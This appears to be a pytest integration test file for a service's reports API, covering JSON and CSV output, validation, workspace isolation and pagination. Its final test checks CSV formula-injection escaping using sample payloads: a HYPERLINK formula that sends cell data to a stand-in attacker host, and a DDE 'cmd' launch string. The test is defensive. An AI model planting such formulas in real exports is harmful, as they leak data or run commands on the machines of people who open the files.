"""Every shipped report against the demo data, as JSON and as CSV."""

import csv
import io
from collections import Counter

import pytest

SHIPPED = {"orders_per_person", "people_without_passport", "passports_expiring",
           "reference_problems", "top_referenced", "schema_overview"}


async def run(api, name, **params):
    response = await api.client.get(f"/v1/reports/{name}", params=params)
    assert response.status_code == 200, response.text
    return response.json()


def orders_by_person(demo):
    return Counter(o["references"]["customer"]["external_id"] for o in demo.orders)


async def test_reports_are_listed_with_their_parameters(demo_api):
    api, _ = demo_api
    listed = {r["name"]: r for r in (await api.client.get("/v1/reports")).json()["data"]}
    assert SHIPPED <= set(listed)
    expiring = listed["passports_expiring"]
    assert expiring["title"] == "Passports expiring before a date"
    assert {p["name"]: (p["type"], p["required"], p["default"]) for p in expiring["params"]} == {
        "before": ("date", True, None), "limit": ("integer", False, 1000)}


async def test_orders_per_person(demo_api):
    api, demo = demo_api
    counts = orders_by_person(demo)
    result = await run(api, "orders_per_person", limit=10)
    assert result["columns"] == ["id", "external_id", "name", "email", "orders", "spent"]
    assert [r["orders"] for r in result["rows"]] == sorted(counts.values(), reverse=True)[:10]
    assert all(counts[r["external_id"]] == r["orders"] for r in result["rows"])
    top = result["rows"][0]
    spent = sum(o["attributes"]["total"] for o in demo.orders
                if o["references"]["customer"]["external_id"] == top["external_id"])
    assert top["spent"] == pytest.approx(spent)


async def test_people_without_passport(demo_api):
    api, demo = demo_api
    holders = {p["references"]["holder"]["external_id"] for p in demo.passports}
    expected = {p["external_id"] for p in demo.people} - holders
    result = await run(api, "people_without_passport", limit=100000)
    assert {r["external_id"] for r in result["rows"]} == expected and expected


async def test_passports_expiring_before_a_date(demo_api):
    api, demo = demo_api
    expected = [p for p in demo.passports if p["attributes"]["expires_on"] < "2027-01-01"]
    result = await run(api, "passports_expiring", before="2027-01-01")
    assert {r["external_id"] for r in result["rows"]} == {p["external_id"] for p in expected}
    assert [r["expires_on"] for r in result["rows"]] == sorted(p["attributes"]["expires_on"] for p in expected)
    assert all(r["holder_external_id"] == f"cust-{r['external_id'].removeprefix('pass-')}" for r in result["rows"])


async def test_top_referenced_people(demo_api):
    api, demo = demo_api
    references = orders_by_person(demo)
    references.update(p["references"]["holder"]["external_id"] for p in demo.passports)
    references.update(c["references"]["contact"]["external_id"] for c in demo.conversations)
    result = await run(api, "top_referenced", type="Person", limit=5)
    assert [r["references"] for r in result["rows"]] == sorted(references.values(), reverse=True)[:5]
    assert all(references[r["external_id"]] == r["references"] for r in result["rows"])


async def test_schema_overview_counts_instances_and_lists_attributes(demo_api):
    api, demo = demo_api
    rows = (await run(api, "schema_overview"))["rows"]
    instances = {r["type"]: r["instances"] for r in rows}
    assert instances == {"Person": len(demo.people), "Conversation": len(demo.conversations),
                         "Order": len(demo.orders), "Item": len(demo.items),
                         "Passport": len(demo.passports)}
    holder = next(r for r in rows if r["type"] == "Passport" and r["attribute"] == "holder")
    assert (holder["target"], holder["cardinality"], holder["inverse"], holder["inverse_cardinality"]) == (
        "Person", "one", "passport", "one")


async def test_csv_parses_back_to_the_json_rows(demo_api):
    api, _ = demo_api
    as_json = await run(api, "orders_per_person", limit=50)
    response = await api.client.get("/v1/reports/orders_per_person", params={"limit": 50, "format": "csv"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows == [{k: "" if v is None else str(v) for k, v in r.items()} for r in as_json["rows"]]
    assert any("," in r["name"] or " " in r["name"] for r in rows)  # quoting was exercised


async def test_bad_parameters_are_422_and_unknown_reports_404(demo_api):
    api, _ = demo_api
    missing = await api.client.get("/v1/reports/passports_expiring")
    assert missing.status_code == 422 and "before is required" in missing.json()["error"]["message"]
    bad = await api.client.get("/v1/reports/passports_expiring", params={"before": "soon"})
    assert bad.status_code == 422 and "before" in bad.json()["error"]["message"]
    unknown = await api.client.get("/v1/reports/orders_per_person", params={"colour": "red"})
    assert unknown.status_code == 422 and "colour" in unknown.json()["error"]["message"]
    csv_bad = await api.client.get("/v1/reports/passports_expiring", params={"format": "csv"})
    assert csv_bad.status_code == 422
    assert (await api.client.get("/v1/reports/nope")).status_code == 404


async def test_reference_problems_finds_what_was_made_by_hand(api, graph):
    from service.services.demo import build
    from tests.conftest import load_demo

    demo = build(people=20, seed=3)
    await load_demo(api, demo)
    assert (await run(api, "reference_problems"))["rows"] == []
    # In Neo4j Browser, someone gives pass-A a second holder and links an order to a
    # person of another workspace.
    passport = demo.passports[0]["external_id"]
    other = next(p["external_id"] for p in demo.people
                 if p["external_id"] != demo.passports[0]["references"]["holder"]["external_id"])
    graph.execute_query(
        "MATCH (x:Passport {workspace: $ws, external_id: $x}), (p:Person {workspace: $ws, external_id: $p}) "
        "CREATE (x)-[:HOLDER]->(p)", ws=api.workspace, x=passport, p=other)
    graph.execute_query(
        "MATCH (o:Order {workspace: $ws}) WITH o LIMIT 1 "
        "CREATE (o)-[:CUSTOMER]->(:Person {workspace: 'someone_else', id: randomUUID()})", ws=api.workspace)
    rows = (await run(api, "reference_problems"))["rows"]
    problems = {(r["type"], r["attribute"], r["problem"], r["object_external_id"], r["count"]) for r in rows}
    assert ("Passport", "holder", "conflicting", passport, 2) in problems
    assert ("Order", "customer", "dangling", None, 1) in problems
    if any(p["references"]["holder"]["external_id"] == other for p in demo.passports):
        assert ("Passport", "holder", "conflicting", other, 2) in problems
    graph.execute_query("MATCH (p:Person {workspace: 'someone_else'}) DETACH DELETE p")


async def test_reports_see_only_the_callers_workspace(demo_api, api):
    empty = await run(api, "orders_per_person")
    assert empty["rows"] == []
    assert {r["type"]: r["instances"] for r in (await run(api, "schema_overview"))["rows"]} == {
        "Person": 0, "Conversation": 0}


async def test_reports_and_secrets_are_lists_like_every_other(api):
    for name in ("b_token", "a_token", "C_token"):
        assert (await api.client.put(f"/v1/secrets/{name}", json={"value": "x"})).status_code in (200, 201)
    for path, everything in (("/v1/reports", None), ("/v1/secrets", ["a_token", "b_token", "C_token"])):
        first = (await api.client.get(path, params={"limit": 2})).json()
        assert len(first["data"]) == 2 and first["next_cursor"]
        names = [item["name"] for item in first["data"]]
        cursor = first["next_cursor"]
        while cursor:
            page = (await api.client.get(path, params={"limit": 2, "cursor": cursor})).json()
            names += [item["name"] for item in page["data"]]
            cursor = page["next_cursor"]
        whole = (await api.client.get(path)).json()
        assert whole["next_cursor"] is None and names == [item["name"] for item in whole["data"]]
        assert names == (everything or sorted(names, key=str.lower))


async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted_numbers_stay(api):
    # A person's name typed by anyone who can write data, opened later by an admin in a
    # spreadsheet: a cell starting with = + - @ tab or CR would run as a formula (OWASP).
    from tests.integration.helpers import ORDER, create_types, person

    await create_types(api, ORDER)
    names = {"f-eq": '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")', "f-plus": "+1+cmd|' /C calc'!A0",
             "f-minus": "-2+3", "f-at": "@SUM(1+1)", "f-tab": "\t=1+1", "f-cr": "\r=1+1", "plain": "Ada = Lovelace"}
    for external_id, name in names.items():
        await person(api, external_id, name=name)
    refund = await api.client.post("/v1/objects/Order", json={"external_id": "o-1", "attributes": {
        "order_number": "R-1", "total": -12.5}, "references": {"customer": {"external_id": "plain"}}})
    assert refund.status_code == 201, refund.text
    response = await api.client.get("/v1/reports/orders_per_person", params={"format": "csv"})
    assert response.status_code == 200
    rows = {r["external_id"]: r for r in csv.DictReader(io.StringIO(response.text, newline=""))}
    for external_id, name in names.items():
        expected = name if external_id == "plain" else "'" + name
        assert rows[external_id]["name"] == expected, (external_id, rows[external_id]["name"])
    assert rows["plain"]["spent"] == "-12.5" and rows["plain"]["orders"] == "1"  # numbers stay numbers
